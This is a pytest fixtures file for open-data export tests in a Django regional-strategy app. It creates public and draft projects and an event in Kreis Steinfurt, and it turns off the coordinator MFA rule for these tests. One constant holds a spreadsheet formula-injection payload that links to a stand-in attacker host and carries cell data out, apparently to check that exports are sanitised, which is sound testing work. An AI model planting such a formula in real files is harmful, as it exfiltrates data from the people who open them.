"""Fixtures of the open data tests: a little public data in Kreis Steinfurt, and a draft."""

from __future__ import annotations

import datetime
from typing import Any

import pytest
from django.utils import timezone

from smartregion.events.models import Event
from smartregion.portfolio.models import Project, ProjectStatus
from smartregion.regions.models import Region
from smartregion.strategy.tests.factories import FieldFactory, StrategyFactory

HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"Klick")'


@pytest.fixture
def public_data(steinfurt: Region) -> dict[str, object]:
    field = FieldFactory(strategy=StrategyFactory(region=steinfurt), name="Bildung")
    project = Project.objects.create(
        region=steinfurt, title="Digitale Schule", slug="digitale-schule", status=ProjectStatus.IN_PROGRESS
    )
    project.fields.add(field)
    draft = Project.objects.create(
        region=steinfurt, title="Geheimer Entwurf", slug="entwurf", status=ProjectStatus.DRAFTING
    )
    start = timezone.now() + datetime.timedelta(days=3)
    event = Event.objects.create(
        region=steinfurt, title="Werkstatt", start=start, end=start + datetime.timedelta(hours=2)
    )
    return {"field": field, "project": project, "draft": draft, "event": event}


@pytest.fixture(autouse=True)
def _coordinators_without_second_factor(settings: Any) -> None:
    """Coordinators here act without setting up TOTP first (the accounts tests check that rule)."""
    settings.REQUIRE_MFA_FOR_COORDINATORS = False
